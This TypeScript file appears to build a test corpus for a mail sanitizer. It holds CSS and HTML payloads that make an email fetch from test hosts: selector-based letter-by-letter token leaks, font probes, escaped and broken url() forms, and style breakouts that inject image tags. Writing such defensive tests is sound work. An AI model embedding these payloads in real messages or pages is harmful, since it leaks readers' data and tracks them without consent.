import { hostOf, letter, slug, type Vector } from './vector.ts'

/** Places in style sheets that can ask for something, beyond those of hostile-mail.ts. */
type Entry = [name: string, tries: string, css: (host: string) => string]

const SHEETS: Entry[] = [
  [
    'css letters by selector',
    'tells a value letter by letter, as a field or a link',
    (h) =>
      `a[href^="https://w"]{background:url(${h}/w)}p:has(a[href*="token=1"]){background:url(${h}/1)}input[value^=a]{list-style:url(${h}/a)}`,
  ],
  [
    'css letters by font',
    'tells which letters a text has',
    (h) => `@font-face{font-family:x;src:url(${h}/a);unicode-range:U+0041}p{font-family:x}`,
  ],
  [
    'css shape and path',
    'shapes and paths from elsewhere',
    (h) => `p{shape-outside:url(${h}/a.png);offset-path:url(${h}/b.svg#x);float:left}`,
  ],
  [
    'css border image',
    'pictures of borders and reflections',
    (h) =>
      `p{border-image-source:url(${h}/a.png);-webkit-box-reflect:below 0 url(${h}/b.png);-webkit-mask-box-image:url(${h}/c.png)}`,
  ],
  [
    'css counter style',
    'symbols of counters',
    (h) => `@counter-style x{system:cyclic;symbols:url(${h}/a.png)}ol{list-style:x}`,
  ],
  [
    'css registered property',
    'an address as a first value',
    (h) => `@property --x{syntax:"<url>";inherits:true;initial-value:url(${h}/a.png)}p{background:var(--x)}`,
  ],
  [
    'css address from an attribute',
    'attr() with a type',
    (h) =>
      `p{background-image:attr(title type(<url>));content:attr(title url)}p::after{content:image-set("${h}/a.png" 1x)}`,
  ],
  [
    'css import with conditions',
    'imports with a layer, a condition, in odd case',
    (h) => `@IMPORT url("${h}/a.css") layer(x) supports(color:red) screen;@\\69mport "${h}/b.css";`,
  ],
  [
    'css namespace and document',
    'at-rules that hold addresses',
    (h) =>
      `@namespace x url(${h}/ns);@document url-prefix("${h}"){p{background:url(${h}/a.png)}}@-moz-document url(${h}/){p{color:red}}`,
  ],
  [
    'css scope and start',
    'rules of new kinds',
    (h) =>
      `@scope(p){:scope{background:url(${h}/a.png)}}@starting-style{p{background:url(${h}/b.png)}}@media not print{@supports not (x:y){p{background:url(${h}/c.png)}}}`,
  ],
  [
    'css in keyframes',
    'pictures in an animation',
    (h) =>
      `@keyframes x{from{background-image:url(${h}/a.png)}to{cursor:url(${h}/b.cur),auto}}p{animation:x 1ms infinite}`,
  ],
  [
    'css escaped',
    'an address in escapes, comments and odd spaces',
    (h) =>
      `p{background:\\75\\72\\6c (${h}/a.png);background:u\\\nrl(${h}/b.png);background:url(\n${h}/c.png\n)}`,
  ],
  [
    'css broken',
    'a sheet broken before the address',
    (h) =>
      `p{color:red;{}}}}]] p{background:url(${h}/a.png)} <!-- p{background:url(${h}/b.png)} --> @media{p{background:url('${h}/c.png}`,
  ],
  [
    'css highlight and print',
    'pseudo elements and pages',
    (h) =>
      `::selection,::marker,::backdrop,p::first-letter{background:url(${h}/a.png);content:url(${h}/b.png)}@page{background:url(${h}/c.png)}`,
  ],
]

const INLINE: Entry[] = [
  [
    'css end of the attribute',
    'a style that ends its element',
    (h) =>
      `<p style="color:red;}</style><img src=${h}/a.png>">words</p><style media="all){}</style><img src='${h}/b.png'>">p{color:red}</style>`,
  ],
  [
    'css of presentation',
    'old attributes that took addresses',
    (h) =>
      `<table background="${h}/a.png" bordercolor="url(${h}/b)"><tr><th background="${h}/c.png" bgcolor="url(${h}/d)">words</th></tr></table><hr color="url(${h}/e)"><ul type="url(${h}/f)"><li>words</ul>`,
  ],
  [
    'css of a hundred kinds',
    'every property that takes a picture, in one attribute',
    (h) =>
      `<p style="${['background', 'background-image', 'border-image', 'list-style', 'list-style-image', 'cursor', 'content', 'mask', 'mask-image', '-webkit-mask', 'filter', 'backdrop-filter', 'clip-path', 'fill', 'stroke', 'marker-start', 'shape-outside', 'offset-path'].map((name) => `${name}:url(${h}/${name})`).join(';')}">words</p>`,
  ],
]

const asLetter =
  (html: (host: string) => string) =>
  ([name, tries]: Entry): Vector => ({ name, tries, eml: letter(html(hostOf(slug(name)))) })

export const STYLES: Vector[] = [
  ...SHEETS.map((entry) =>
    asLetter(
      (h) =>
        `<style>${entry[2](h)}</style><p title="${h}/attr.png">words <a href="https://words.test/?token=1">press</a></p><ol><li>words</ol>`,
    )(entry),
  ),
  ...INLINE.map((entry) => asLetter(entry[2])(entry)),
]
